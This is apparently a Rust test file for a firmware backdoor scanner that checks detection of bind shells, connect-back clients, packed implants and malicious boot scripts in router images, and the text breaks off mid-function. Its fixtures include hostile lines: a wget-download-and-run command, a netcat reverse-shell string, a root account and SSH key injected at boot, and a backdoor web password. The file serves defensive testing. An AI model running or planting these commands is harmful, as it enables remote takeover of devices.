/// The hand-off's exec call names the program it runs: a bind shell runs a shell; an
/// inetd-style server (accept, dup2 onto 0-2, exec of the daemon its configuration names,
/// `/bin/sh` named only for a hook) hands the peer that program and is not a bind shell.
#[test]
fn handoff_names_the_program_run() {
    let mut arches: Vec<String> = Vec::new();
    for a in ARCHES {
        arches.push(format!("inetd-{a}-static"));
        arches.push(format!("inetd-{a}-dynamic"));
    }
    for name in &arches {
        let data = implant(name);
        let p = behaviour::profile(name, &data).unwrap();
        assert_eq!(
            p.handed_program.as_deref(),
            Some("/usr/sbin/ftpd"),
            "{name}"
        );
        let h = p.handoff.as_deref().unwrap_or_default();
        assert!(
            h.starts_with("socket handed to shell: ")
                && h.contains("returns the connection -> dup2 onto fd 0, 1, 2 -> ")
                && h.ends_with(" running \"/usr/sbin/ftpd\""),
            "{name}: {h}"
        );
        let v = verdict_kinds(name, &data);
        assert!(
            !v.iter().any(|(k, _, _)| *k == "backdoor.bind-shell"),
            "{name}: {v:?}"
        );
        assert!(
            v.iter().any(|(k, s, e)| *k == "backdoor.suspicious"
                && *s == Severity::Low
                && e.contains("not called a bind shell: the connection is handed to \"/usr/sbin/ftpd\", not a shell (an inetd-style server)")),
            "{name}: {v:?}"
        );
        // the same file with the path string made a shell's: a bind shell again
        let mut shell = data.clone();
        let at = memchr::memmem::find(&shell, b"/usr/sbin/ftpd\0").unwrap();
        shell[at..at + 9].copy_from_slice(b"/bin/ash\0");
        let v = verdict_kinds(name, &shell);
        assert!(
            v.iter().any(|(k, s, e)| *k == "backdoor.bind-shell"
                && *s == Severity::High
                && e.contains(" running \"/bin/ash\"")),
            "{name}: {v:?}"
        );
    }
    // bind shells running /bin/sh and /bin/ash (static and dynamic, several ABIs)
    for (name, prog, exec) in [
        (
            "bindshell-ash-mips-static",
            "/bin/ash",
            "execve at 0x4001dc",
        ),
        (
            "bindshell-ash-x86_64-dynamic",
            "/bin/ash",
            "call execve at 0x114b",
        ),
        ("bindshell-mips-static", "/bin/sh", "execve at 0x4001dc"),
        ("bindshell-mips-dynamic", "/bin/sh", "call execve at 0x720"),
        ("bindshell-arm-dynamic", "/bin/sh", "call execve at 0x5ac"),
        ("bindshell-thumb2-static", "/bin/sh", "execve at 0x100e4"),
        (
            "bindshell-x86_64-dynamic",
            "/bin/sh",
            "call execve at 0x114b",
        ),
        ("bindshell-aarch64-static", "/bin/sh", "execve at 0x400170"),
        (
            "connectback-aarch64-glibcstatic",
            "/bin/sh -i",
            "call system at 0x400584",
        ),
    ] {
        let data = implant(name);
        let p = behaviour::profile(name, &data).unwrap();
        assert_eq!(p.handed_program.as_deref(), Some(prog), "{name}");
        let running = format!("{exec} running \"{prog}\"");
        assert!(
            p.handoff.as_deref().is_some_and(|h| h.contains(&running)),
            "{name}: {:?}",
            p.handoff
        );
        let v = verdict_kinds(name, &data);
        assert!(
            v.iter().any(
                |(k, s, e)| matches!(*k, "backdoor.bind-shell" | "backdoor.connect-back")
                    && *s == Severity::High
                    && e.contains(&running)
            ),
            "{name}: {v:?}"
        );
    }
    // where the path is not a constant in a register (i386 PIE keeps it in the frame), the
    // flow names no program and the judgement is as before
    let data = implant("bindshell-i386-dynamic");
    let p = behaviour::profile("bindshell-i386-dynamic", &data).unwrap();
    assert_eq!(p.handed_program, None);
    assert!(verdict_kinds("x", &data)
        .iter()
        .any(|(k, s, _)| *k == "backdoor.bind-shell" && *s == Severity::High));
}

#[test]
fn hostile_segment_addresses_do_not_panic() {
    // 64-bit static implants with every segment moved to the top of the address space: the
    // trackers' address arithmetic wraps instead of overflowing
    for (name, be) in [
        ("connectback-aarch64-static", false),
        ("connectback-x86_64-static", false),
        ("connectback-mips64-static", true),
        ("connectback-x86_64-routine", false),
        ("connectback-aarch64-routine", false),
    ] {
        let mut data = implant(name);
        let rd = |d: &[u8], o: usize, n: usize| -> u64 {
            let mut v = 0u64;
            for i in 0..n {
                let b = u64::from(d[o + if be { i } else { n - 1 - i }]);
                v = v << 8 | b;
            }
            v
        };
        let phoff = rd(&data, 0x20, 8) as usize;
        let phent = rd(&data, 0x36, 2) as usize;
        for k in 0..rd(&data, 0x38, 2) as usize {
            let at = phoff + k * phent + 0x10;
            let top = 0xffff_ffff_ffff_fff0u64.to_le_bytes();
            let bytes: Vec<u8> = if be {
                top.iter().rev().copied().collect()
            } else {
                top.to_vec()
            };
            data[at..at + 8].copy_from_slice(&bytes);
        }
        let s = behaviour::stub_scan(&data);
        if !name.ends_with("-routine") {
            // inline stubs are still read; a routine's call targets wrap past the end of the
            // address space and are not followed
            assert!(s.caps.contains_key(&Cap::Socket), "{name}: {s:?}");
        }
        assert!(behaviour::profile(name, &data).is_some(), "{name}");
    }
}

#[test]
fn socket_flow_outweighs_program_size() {
    // the size rule alone calls a static program of more than 128 KiB of code a daemon;
    // the followed socket still makes it a connect-back client
    let data = implant("connectback-mipsel-static");
    let mut p = behaviour::profile("usr/bin/big", &data).unwrap();
    p.code_size = 4 << 20;
    let v = behaviour::judge(&p);
    assert_eq!(v[0].kind, kinds::BACKDOOR_CONNECT_BACK, "{v:?}");
    assert_eq!(v[0].severity, Severity::High);
    assert!(
        v[0].evidence.contains("socket handed to shell"),
        "{}",
        v[0].evidence
    );
    p.handoff = None;
    let v = behaviour::judge(&p);
    assert_eq!(v[0].kind, kinds::BACKDOOR_SUSPICIOUS, "{v:?}");
    assert_eq!(v[0].severity, Severity::Low);
}

fn spec(imports: Vec<&'static str>, extra: &[u8]) -> Vec<u8> {
    build_elf(&ElfSpec {
        imports,
        extra: extra.to_vec(),
        ..Default::default()
    })
}

#[test]
fn legitimate_daemons_are_not_backdoors() {
    // SSH-like server: listens, dup2, exec shell, but authenticates
    let sshd = spec(
        vec![
            "socket", "bind", "listen", "accept", "dup2", "execv", "crypt", "getspnam",
        ],
        b"/bin/sh\0Password:\0",
    );
    assert!(verdict_kinds("usr/sbin/dropbear", &sshd).is_empty());
    // telnetd: listens, forks /bin/login (no shell string, no password prompt of its own)
    let telnetd = spec(
        vec!["socket", "bind", "listen", "accept", "dup2", "execv"],
        b"/bin/login\0",
    );
    assert!(verdict_kinds("usr/sbin/telnetd", &telnetd).is_empty());
    // a web server running CGI: no dup2 of the socket
    let httpd = spec(
        vec!["socket", "bind", "listen", "accept", "execve", "fork"],
        b"/bin/sh\0/www\0",
    );
    assert!(verdict_kinds("usr/sbin/httpd", &httpd).is_empty());
    // a client with private addresses and benign URLs only
    let client = spec(
        vec!["socket", "connect"],
        b"http://www.openssl.org/\x00192.168.1.1\0kernel 2.6.36.4\0",
    );
    assert!(verdict_kinds("usr/bin/ntpclient", &client).is_empty());
}

#[test]
fn busybox_is_identified_not_skipped() {
    let stock = spec(
        vec!["socket", "bind", "listen", "accept", "connect", "dup2", "execvp"],
        b"BusyBox v1.30.1 (2020-01-01)\0http://www.busybox.net/\0[\0[[\0ash\0nc\0telnetd\0\0/bin/sh\0",
    );
    let p = behaviour::profile("bin/busybox", &stock).unwrap();
    let bb = p.busybox.as_ref().unwrap();
    assert_eq!(bb.version, "1.30.1");
    assert_eq!(bb.applets, 5);
    assert!(
        behaviour::judge(&p).is_empty(),
        "{:?}",
        behaviour::judge(&p)
    );

    let modified = spec(
        vec!["socket", "bind", "listen", "accept", "connect", "dup2", "execvp"],
        b"BusyBox v1.30.1 (2020-01-01)\0[\0[[\0ash\0nc\0\0/bin/sh\0nc 198.51.100.23 4444 -e /bin/sh\0",
    );
    let v = verdict_kinds("bin/busybox", &modified);
    assert_eq!(v.len(), 1, "{v:?}");
    assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS);
    assert_eq!(v[0].1, Severity::Medium);
    assert!(v[0].2.contains("198.51.100.23"), "{}", v[0].2);
    assert!(v[0].2.contains("\"-e /bin/sh\""), "{}", v[0].2);
}

#[test]
fn go_binaries_by_package_symbols() {
    let go = spec(
        vec![],
        b"\xff Go buildinf:\0runtime.main\0net.(*TCPListener).Accept\0os/exec.(*Cmd).Start\0syscall.Dup2\0/bin/sh\0",
    );
    let p = behaviour::profile("usr/bin/agent", &go).unwrap();
    assert_eq!(p.linkage, Linkage::Go);
    let v = verdict_kinds("usr/bin/agent", &go);
    assert_eq!(v[0].0, kinds::BACKDOOR_BIND_SHELL, "{v:?}");
    assert_eq!(v[0].1, Severity::Medium);
    assert!(
        v[0].2.contains("Go symbol net.(*TCPListener).Accept"),
        "{}",
        v[0].2
    );
    // a Go web server that runs commands is not a bind shell
    let web = spec(
        vec![],
        b"\xff Go buildinf:\0net.(*TCPListener).Accept\0os/exec.(*Cmd).Start\0net/http.(*Server).Serve\0/bin/sh\0",
    );
    assert!(verdict_kinds("usr/bin/webd", &web).is_empty());
}

#[test]
fn upx_packed_is_flagged() {
    // l_info {checksum, "UPX!", lsize, version 13, format 12 (ELF/386... any)}, p_info
    let mut extra = vec![0u8; 4];
    extra.extend(b"UPX!");
    extra.extend([0x1c, 0x0a, 13, 12]);
    extra.extend([0, 0, 0, 0]);
    extra.extend(123_456u32.to_le_bytes());
    extra.extend(123_456u32.to_le_bytes());
    extra.extend(vec![0xa5; 64]);
    extra.extend(b"UPX!");
    let packed = spec(vec![], &extra);
    let v = verdict_kinds("usr/bin/packed", &packed);
    assert_eq!(v.len(), 1, "{v:?}");
    assert_eq!(v[0].0, kinds::BINARY_PACKED);
    assert_eq!(v[0].1, Severity::Medium);
    assert!(v[0].2.contains("version 13"), "{}", v[0].2);
    assert!(v[0].2.contains("unpacked size 123456 bytes"), "{}", v[0].2);
    // through the analyzer: the unpacker cannot restore this hand-written header, so the
    // finding says the behaviour was not read and stays medium
    let (_dir, t) = tree_of(&[("usr/bin/packed", &packed)]);
    let out = run(&Behaviour::new(), &t);
    let f = by_kind(&out.findings, kinds::BINARY_PACKED);
    assert_eq!(f.len(), 1, "{:#?}", out.findings);
    assert_eq!(f[0].severity, Severity::Medium);
    assert!(f[0].evidence.contains("not unpacked"), "{}", f[0].evidence);
}

/// A stock-looking OpenWrt-style root: BusyBox, an init script, package lists, a web UI.
fn stock_root(dir: &Path) {
    let bb = spec(
        vec![
            "socket", "bind", "listen", "accept", "connect", "dup2", "execvp",
        ],
        b"BusyBox v1.30.1 (2020-01-01)\0[\0[[\0ash\0nc\0telnetd\0\0/bin/sh\0",
    );
    let dropbear = spec(
        vec![
            "socket", "bind", "listen", "accept", "dup2", "execv", "crypt", "getspnam",
        ],
        b"/bin/sh\0Password:\0",
    );
    let w = |rel: &str, d: &[u8]| netvet_testkit::write_file(dir, rel, d);
    w("bin/busybox", &bb);
    w("usr/sbin/dropbear", &dropbear);
    w(
        "etc/inittab",
        b"::sysinit:/etc/init.d/rcS S boot\n::shutdown:/etc/init.d/rcS K shutdown\n",
    );
    w(
        "etc/init.d/rcS",
        b"#!/bin/sh\nfor i in /etc/rc.d/S*; do $i start; done\n/usr/sbin/dropbear -p 22 &\n",
    );
    w("etc/passwd", b"root:x:0:0:root:/root:/bin/ash\n");
    w(
        "usr/lib/opkg/info/busybox.list",
        b"/bin/busybox\n/etc/inittab\n/etc/init.d/rcS\n",
    );
    w(
        "usr/lib/opkg/info/dropbear.list",
        b"/usr/sbin/dropbear\t0755\n",
    );
    w(
        "www/login.html",
        b"<html><head><script src=\"/js/util.js\"></script><script src=\"https://code.jquery.com/jquery.min.js\"></script></head>\n<form><input type=\"password\" name=\"pwd\"></form></html>\n",
    );
    w("etc/crontabs/root", b"0 3 * * * /sbin/logread -c\n");
}

fn image(dir: &Path) -> netvet_unpack::Tree {
    let img = netvet_testkit::pack_squashfs(
        dir,
        &netvet_testkit::SquashOpts::like_mksquashfs_xz(1_600_000_000),
    )
    .expect("pack squashfs");
    netvet_unpack::Unpacker::new(netvet_unpack::Limits::default())
        .unpack_bytes(bytes::Bytes::from(img))
}

fn by_kind<'a>(f: &'a [Finding], kind: &str) -> Vec<&'a Finding> {
    f.iter().filter(|x| x.kind == kind).collect()
}

fn all_findings(t: &netvet_unpack::Tree) -> Vec<Finding> {
    let rules = netvet_rules::RuleSet::embedded();
    let options = netvet_analyze::Options::default();
    let a = netvet_analyze::Analyzers::new(&rules).unwrap();
    a.run(&netvet_analyze::Context {
        tree: t,
        rules: &rules,
        options: &options,
    })
    .findings
}

fn severe_backdoors(f: &[Finding]) -> Vec<&Finding> {
    f.iter()
        .filter(|x| x.kind.starts_with("backdoor.") && x.severity >= Severity::High)
        .collect()
}

#[test]
fn stock_image_has_no_behaviour_findings() {
    let dir = tempfile::tempdir().unwrap();
    stock_root(dir.path());
    let t = image(dir.path());
    let out = run(&Behaviour::new(), &t);
    let noisy: Vec<_> = out
        .findings
        .iter()
        .filter(|f| {
            f.kind.starts_with("backdoor.")
                || f.kind.starts_with("boot.")
                || f.kind.starts_with("web.")
        })
        .collect();
    assert!(noisy.is_empty(), "{noisy:#?}");
    let all = all_findings(&t);
    assert!(
        severe_backdoors(&all).is_empty(),
        "{:#?}",
        severe_backdoors(&all)
    );
    let s = &out.summaries[0].1;
    assert_eq!(s["package_lists"], 2);
    assert_eq!(s["unowned_executables"], 0);
    assert_eq!(s["busybox_builds"][0], "1.30.1 (5 applets)");
}

#[test]
fn implanted_image_names_every_implant() {
    for arch in ["mips", "mipsel", "arm", "aarch64"] {
        let dir = tempfile::tempdir().unwrap();
        stock_root(dir.path());
        let w = |rel: &str, d: &[u8]| netvet_testkit::write_file(dir.path(), rel, d);
        w(
            "usr/bin/dbgsvc",
            &implant(&format!("bindshell-{arch}-static")),
        );
        w(
            "usr/sbin/updated",
            &implant(&format!("connectback-{arch}-dynamic")),
        );
        w(
            "usr/sbin/mgmtd",
            &implant(&format!("magicauth-{arch}-static")),
        );
        w(
            "etc/init.d/rcS",
            b"#!/bin/sh\n/usr/sbin/dropbear -p 22 &\n/etc/init.d/netfix start\n",
        );
        w(
            "etc/init.d/netfix",
            concat!(
                "#!/bin/sh\n",
                "iptables -I INPUT -p tcp --dport 31337 -j ACCEPT\n",
                "/usr/bin/dbgsvc &\n",
                "wget http://198.51.100.23/p.sh -O /tmp/p.sh; chmod +x /tmp/p.sh; /tmp/p.sh\n",
                "echo 'svc:x:0:0::/root:/bin/sh' >> /etc/passwd\n",
                "echo 'ssh-ed25519 AAAAC3Nza implant' >> /etc/dropbear/authorized_keys\n",
            )
            .as_bytes(),
        );
        w("etc/crontabs/root", b"*/5 * * * * /usr/sbin/updated\n");
        w(
            "www/login.html",
            b"<html><script src=\"http://198.51.100.23/k.js\"></script>\n<input type=\"password\" id=\"pwd\">\n<script>if (pwd.value == \"Adm1nBackd00r\") ok();</script></html>\n",
        );
        let t = image(dir.path());
        let all = all_findings(&t);
        let f = &all;
        let bind = by_kind(f, kinds::BACKDOOR_BIND_SHELL);
        assert_eq!(bind.len(), 1, "{arch}: {bind:#?}");
        assert_eq!(bind[0].severity, Severity::Critical, "{arch}");
        assert!(bind[0].path.as_deref().unwrap().ends_with("usr/bin/dbgsvc"));
        assert!(
            bind[0].evidence.contains("started at boot"),
            "{}",
            bind[0].evidence
        );
        assert!(
            bind[0]
                .evidence
                .contains("no installed package lists this file"),
            "{}",
            bind[0].evidence
        );
        // every finding on a file names the file's digest and what starts it
        {
            use sha2::{Digest, Sha256};
            let want = hex::encode(Sha256::digest(implant(&format!("bindshell-{arch}-static"))));
            assert_eq!(bind[0].sha256.as_deref(), Some(want.as_str()), "{arch}");
            let by = bind[0].started_by.as_deref().unwrap_or("");
            assert!(
                by.contains("etc/init.d/netfix line 3: /usr/bin/dbgsvc &"),
                "{arch}: {by}"
            );
        }

        let cb = by_kind(f, kinds::BACKDOOR_CONNECT_BACK);
        assert_eq!(cb.len(), 1, "{arch}: {cb:#?}");
        assert_eq!(cb[0].severity, Severity::Critical, "{arch}");
        assert!(
            cb[0].evidence.contains("cron (") && cb[0].evidence.contains("etc/crontabs/root"),
            "{}",
            cb[0].evidence
        );

        let magic: Vec<_> = by_kind(f, kinds::BACKDOOR_SUSPICIOUS)
            .into_iter()
            .filter(|x| x.path.as_deref().unwrap().ends_with("usr/sbin/mgmtd"))
            .collect();
        assert_eq!(magic.len(), 1, "{arch}: {magic:#?}");
        assert_eq!(magic[0].severity, Severity::High);

        let boot = by_kind(f, kinds::BOOT_SUSPICIOUS);
        let has = |needle: &str, sev: Severity| {
            boot.iter()
                .any(|b| b.title.contains(needle) && b.severity == sev)
        };
        assert!(has("opens the firewall", Severity::Medium), "{boot:#?}");
        assert!(
            has(
                "downloads a program and runs it (/tmp/p.sh)",
                Severity::High
            ),
            "{boot:#?}"
        );
        assert!(
            has("uid-0 account into /etc/passwd", Severity::High),
            "{boot:#?}"
        );
        assert!(
            has("adds an SSH authorized key", Severity::High),
            "{boot:#?}"
        );
        assert!(
            has("starts dbgsvc (backdoor.bind-shell)", Severity::High),
            "{boot:#?}"
        );
        assert!(
            has("starts updated (backdoor.connect-back)", Severity::High),
            "{boot:#?}"
        );

        let web = by_kind(f, kinds::WEB_SUSPICIOUS);
        assert!(
            web.iter().any(|w| w.severity == Severity::High
                && w.evidence.contains("http://198.51.100.23/k.js")),
            "{web:#?}"
        );
        assert!(
            web.iter().any(|w| w.evidence.contains("'Adm1nBackd00r'")),
            "{web:#?}"
        );
        // the stock parts stay quiet
        assert!(
            !f.iter().any(|x| x.kind.starts_with("backdoor.")
                && x.path
                    .as_deref()
                    .is_some_and(|p| p.ends_with("dropbear") || p.ends_with("busybox"))),
            "{arch}"
        );
        assert!(by_kind(f, kinds::INDICATOR_NETWORK)
            .iter()
            .any(|i| i.evidence.contains("198.51.100.23")));
    }
}

#[test]
fn boot_model_reads_cron_and_hotplug() {
    let t = tree(vec![
        file(
            "etc/crontab",
            0o644,
            b"SHELL=/bin/sh\n*/10 * * * * root /usr/bin/check --all\n@reboot root /usr/bin/early\n",
        ),
        file(
            "etc/hotplug.d/iface/99-x",
            0o755,
            b"#!/bin/sh\n[ \"$ACTION\" = ifup ] && /usr/bin/onup\n",
        ),
        file(
            "etc/hotplug2.rules",
            0o644,
            b"SUBSYSTEM ~~ (net) {\n  exec /sbin/hotplug-call %SUBSYSTEM%\n}\n",
        ),
        file("usr/bin/check", 0o755, b"#!/bin/sh\n"),
        file("usr/bin/early", 0o755, b"#!/bin/sh\n"),
        file("usr/bin/onup", 0o755, b"#!/bin/sh\n"),
    ]);
    let m = netvet_analyze::boot::BootModel::build(&t);
    let lines = m.lines();
    let progs: Vec<&str> = lines.iter().map(|l| l.cmd.program.as_str()).collect();
    assert!(progs.contains(&"/usr/bin/check"), "{progs:?}");
    assert!(progs.contains(&"/usr/bin/early"), "{progs:?}");
    assert!(progs.contains(&"/usr/bin/onup"), "{progs:?}");
    assert!(progs.contains(&"/sbin/hotplug-call"), "{progs:?}");
    let check = lines
        .iter()
        .find(|l| l.cmd.program == "/usr/bin/check")
        .unwrap();
    assert_eq!(check.cmd.args, vec!["--all"]);
    assert_eq!(check.reason, "cron (etc/crontab)");
    let started = m.started_programs(&t);
    assert!(started.contains_key("usr/bin/early"), "{started:?}");
}

#[test]
fn corpus_stock_images_carry_no_severe_backdoor() {
    for rel in [
        "rootfs/luxul-xbr4400/squashfs-root",
        "rootfs/phicomm-k2p/squashfs-root",
    ] {
        let Some(t) = corpus_tree(rel) else { return };
        let f = all_findings(&t);
        let severe = severe_backdoors(&f);
        assert!(severe.is_empty(), "{rel}: {severe:#?}");
        let boot_high: Vec<_> = f
            .iter()
            .filter(|x| x.kind == kinds::BOOT_SUSPICIOUS && x.severity >= Severity::High)
            .collect();
        assert!(boot_high.is_empty(), "{rel}: {boot_high:#?}");
    }
}

const PACKED: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/implants/packed");

#[test]
fn upx_packed_implants_are_unpacked_and_judged() {
    // every packed implant (UPX 4.2.4: NRV2B/2D/2E, LZMA; see implants/build-packed.sh),
    // installed as usr/sbin/NAME and started from rcS: the finding sits on the restored
    // original, critical because the packed file is started at boot
    let names: Vec<String> = std::fs::read_to_string(Path::new(PACKED).join("ORIGINALS"))
        .unwrap()
        .lines()
        .map(|l| l.split_whitespace().nth(2).unwrap().to_string())
        .collect();
    assert_eq!(names.len(), 16);
    let mut files: Vec<(String, Vec<u8>)> = vec![(
        "etc/init.d/rcS".into(),
        names
            .iter()
            .map(|n| format!("/usr/sbin/{n} &\n"))
            .collect::<String>()
            .into_bytes(),
    )];
    files.push((
        "etc/inittab".into(),
        b"::sysinit:/etc/init.d/rcS\n".to_vec(),
    ));
    for n in &names {
        files.push((
            format!("usr/sbin/{n}"),
            std::fs::read(Path::new(PACKED).join(n)).unwrap(),
        ));
    }
    let refs: Vec<(&str, &[u8])> = files
        .iter()
        .map(|(p, d)| (p.as_str(), d.as_slice()))
        .collect();
    let (_dir, t) = tree_of(&refs);
    let out = run(&Behaviour::new(), &t);
    let all = all_findings(&t);
    for n in &names {
        let orig = format!("usr/sbin/{n}.extract/0x0.upx/{n}");
        let want = if n.starts_with("bindshell") {
            kinds::BACKDOOR_BIND_SHELL
        } else {
            kinds::BACKDOOR_CONNECT_BACK
        };
        let f = out
            .findings
            .iter()
            .find(|f| f.kind == want && f.path.as_deref() == Some(orig.as_str()))
            .unwrap_or_else(|| panic!("{n}: no {want} on {orig}: {:#?}", out.findings));
        assert_eq!(f.severity, Severity::Critical, "{n}: {}", f.evidence);
        assert!(
            f.evidence.contains("started at boot: etc/init.d/rcS"),
            "{n}: {}",
            f.evidence
        );
        // the whole scan's finding on the original names the packed file's start line
        let located = all
            .iter()
            .find(|g| g.kind == want && g.path.as_deref() == Some(orig.as_str()))
            .unwrap_or_else(|| panic!("{n}: no {want} on {orig} in the full run"));
        assert!(
            located
                .started_by
                .as_deref()
                .is_some_and(|b| b.starts_with("etc/init.d/rcS line ")),
            "{n}: {:?}",
            located.started_by
        );
        let packed = out
            .findings
            .iter()
            .find(|f| {
                f.kind == kinds::BINARY_PACKED
                    && f.path.as_deref() == Some(&*format!("usr/sbin/{n}"))
            })
            .unwrap_or_else(|| panic!("{n}: no binary.packed"));
        assert_eq!(packed.severity, Severity::Low, "{n}");
        assert!(
            packed.evidence.contains(&format!("is analysed as {orig}")),
            "{n}: {}",
            packed.evidence
        );
    }
}

#[test]
fn daemon_running_a_helper_script_is_not_a_bind_shell() {
    // dnsmasq's shape: a listener (TCP DNS), dup2 of pipes, execl of its dhcp-script, "/bin/sh"
    // among its strings, no authentication import - and hundreds of other imports
    let mut imports = vec![
        "socket", "bind", "listen", "accept", "dup2", "execl", "setsid", "fork", "pipe",
    ];
    let filler: Vec<&'static str> = (0..120)
        .map(|i| &*Box::leak(format!("service_fn_{i}").into_boxed_str()))
        .collect();
    imports.extend(filler.iter().copied());
    let daemon = spec(imports, b"/bin/sh\0dhcp-script\0");
    let v = verdict_kinds("usr/sbin/dnsmasq", &daemon);
    assert_eq!(v.len(), 1, "{v:?}");
    assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS);
    assert_eq!(v[0].1, Severity::Low);
    assert!(v[0].2.contains("129 imports"), "{}", v[0].2);
    // the same capabilities with an interactive shell argument are a bind shell
    let mut imports = vec!["socket", "bind", "listen", "accept", "dup2", "execve"];
    imports.extend(filler);
    let hidden = spec(imports, b"sh\0-i\0/bin/sh\0");
    let v = verdict_kinds("usr/sbin/dnsmasq", &hidden);
    assert_eq!(v[0].0, kinds::BACKDOOR_BIND_SHELL, "{v:?}");
    assert!(v[0].2.contains("interactive shell \"-i\""), "{}", v[0].2);
}

#[test]
fn capture_tool_is_not_a_magic_packet_listener() {
    // tcpdump's shape (the phicomm-k2p build): pcap capture with a compiled BPF filter,
    // savefile writing, and execlp of the `-z` post-rotate program named on its command
    // line; no shell, no system/popen
    let tcpdump = spec(
        vec![
            "pcap_open_live",
            "pcap_compile",
            "pcap_setfilter",
            "pcap_loop",
            "pcap_dump_open",
            "pcap_dump",
            "pcap_dump_flush",
            "execlp",
            "fork",
            "socket",
        ],
        b"compress_savefile:execlp(%s, %s): %s\0Usage: %s [-aAbdDefhHIJKlLnNOpqRStuUvxX]\0",
    );
    let v = verdict_kinds("usr/sbin/tcpdump", &tcpdump);
    assert!(v.is_empty(), "{v:?}");
    // the same capture tool that names a shell still records packets: not a listener
    let mut with_shell = spec(
        vec![
            "pcap_open_live",
            "pcap_loop",
            "pcap_dump_open",
            "pcap_dump",
            "execl",
        ],
        b"/bin/sh\0-c\0",
    );
    assert!(verdict_kinds("usr/sbin/tcpdump", &with_shell).is_empty());
    // a magic-packet listener: captures with a filter, hands the payload to system(),
    // records nothing
    let listener = spec(
        vec![
            "pcap_open_live",
            "pcap_compile",
            "pcap_setfilter",
            "pcap_loop",
            "system",
            "daemon",
        ],
        b"udp and udp[8:4] = 0x7a6b0d13\0",
    );
    let v = verdict_kinds("usr/sbin/klogd", &listener);
    assert_eq!(v.len(), 1, "{v:?}");
    assert_eq!(v[0].0, kinds::BACKDOOR_SUSPICIOUS);
    assert_eq!(v[0].1, Severity::Medium);
    assert!(
        v[0].2.contains("runs command lines (imports system)"),
        "{}",
        v[0].2
    );
    assert!(
        v[0].2
            .contains("raw capture (imports pcap_open_live, pcap_loop)"),
        "{}",
        v[0].2
    );
    // execv of /bin/sh (no system import) is the same pattern
    with_shell = spec(vec!["pcap_open_live", "pcap_loop", "execv"], b"/bin/sh\0");
    let v = verdict_kinds("usr/sbin/klogd", &with_shell);
    assert_eq!(v.len(), 1, "{v:?}");
    assert!(
        v[0].2.contains("runs command lines (shell \"/bin/sh\""),
        "{}",
        v[0].2
    );
}

/// Precision figures for docs/backdoors.md: every image and root file system of the corpus,
/// unpacked and run through all analyzers; prints the high/critical backdoor.* findings.
/// `cargo test --workspace --test behaviour corpus_backdoor_census -- --ignored --nocapture`
#[test]
#[ignore]
fn corpus_backdoor_census() {
    let Some(root) = netvet_model::corpus::path("images") else {
        return;
    };
    let mut inputs: Vec<std::path::PathBuf> = Vec::new();
    let mut stack = vec![root];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.file_name().is_some_and(|n| n != "MANIFEST.md") {
                inputs.push(p);
            }
        }
    }
    inputs.sort();
    for r in [
        "rootfs/luxul-xbr4400/squashfs-root",
        "rootfs/phicomm-k2p/squashfs-root",
    ] {
        if let Some(p) = netvet_model::corpus::path(r) {
            inputs.push(p);
        }
    }
    let mut total = 0;
    for p in &inputs {
        let t = netvet_unpack::Unpacker::new(netvet_unpack::Limits::default())
            .unpack_path(p)
            .unwrap();
        let f = all_findings(&t);
        let severe = severe_backdoors(&f);
        let low: Vec<_> = f
            .iter()
            .filter(|x| x.kind.starts_with("backdoor.") && x.severity < Severity::High)
            .collect();
        let packed: Vec<_> = by_kind(&f, kinds::BINARY_PACKED);
        total += severe.len();
        if !severe.is_empty() || !low.is_empty() || !packed.is_empty() {
            println!("== {} : {} severe", p.display(), severe.len());
            for x in severe.iter().chain(low.iter()).chain(packed.iter()) {
                println!(
                    "   {} {:?} {} | {}",
                    x.kind,
                    x.severity,
                    x.path.as_deref().unwrap_or("-"),
                    x.evidence.chars().take(400).collect::<String>()
                );
            }
        }
    }
    println!("inputs {} severe total {total}", inputs.len());
}

/// How the call-site decoding of dynamic executables fares on real images: every dynamic
/// executable importing `socket` under `corpus/images` and `corpus/rootfs`, whether its PLT
/// stubs / GOT slots were found, and what the calls show (raw capture, socket-to-shell flow,
/// standard descriptors from elsewhere).
/// `cargo test --workspace --test behaviour corpus_import_call_survey -- --ignored --nocapture`
#[test]
#[ignore = "reads the whole corpus; run by hand"]
fn corpus_import_call_survey() {
    let Some(root) = netvet_model::corpus::path("images") else {
        return;
    };
    let mut inputs: Vec<std::path::PathBuf> = Vec::new();
    let mut stack = vec![root];
    while let Some(d) = stack.pop() {
        for e in std::fs::read_dir(&d).unwrap().flatten() {
            let p = e.path();
            if p.is_dir() {
                stack.push(p);
            } else if p.file_name().is_some_and(|n| n != "MANIFEST.md") {
                inputs.push(p);
            }
        }
    }
    inputs.sort();
    for r in [
        "rootfs/luxul-xbr4400/squashfs-root",
        "rootfs/phicomm-k2p/squashfs-root",
    ] {
        if let Some(p) = netvet_model::corpus::path(r) {
            inputs.push(p);
        }
    }
    let (mut socket, mut resolved, mut socket_calls, mut raw_calls) = (0, 0, 0, 0);
    let (mut decode, mut bytes) = (std::time::Duration::ZERO, 0usize);
    for p in &inputs {
        let t = netvet_unpack::Unpacker::new(netvet_unpack::Limits::default())
            .unpack_path(p)
            .unwrap();
        for e in t.files() {
            let data = t.content(e);
            if !data.starts_with(b"\x7fELF") {
                continue;
            }
            let Some(prof) = behaviour::profile(&e.path, data) else {
                continue;
            };
            if prof.linkage != Linkage::Dynamic || !prof.has(Cap::Socket) {
                continue;
            }
            socket += 1;
            let t0 = std::time::Instant::now();
            let _ = behaviour::import_call_scan(data);
            decode += t0.elapsed();
            bytes += data.len();
            let targets = netvet_analyze::import_calls::import_targets(data);
            let names: std::collections::BTreeSet<&str> = targets
                .by_addr
                .values()
                .filter_map(|i| targets.names.get(*i as usize).map(String::as_str))
                .collect();
            if !targets.is_empty() {
                resolved += 1;
            }
            if names.contains("socket") {
                socket_calls += 1;
            }
            let raw = prof
                .caps
                .get(&Cap::RawCapture)
                .filter(|e| e.starts_with("call "));
            if raw.is_some() {
                raw_calls += 1;
            }
            if raw.is_some() || prof.handoff.is_some() || !names.contains("socket") {
                println!(
                    "{} {} | {} imports, socket target {} | raw {:?} | packet to program {:?} | handoff {:?} | verdicts {:?}",
                    p.file_name().unwrap_or_default().to_string_lossy(),
                    e.path,
                    prof.imports,
                    names.contains("socket"),
                    raw,
                    prof.packet_exec,
                    prof.handoff,
                    behaviour::judge(&prof)
                        .iter()
                        .map(|v| (v.kind, v.severity))
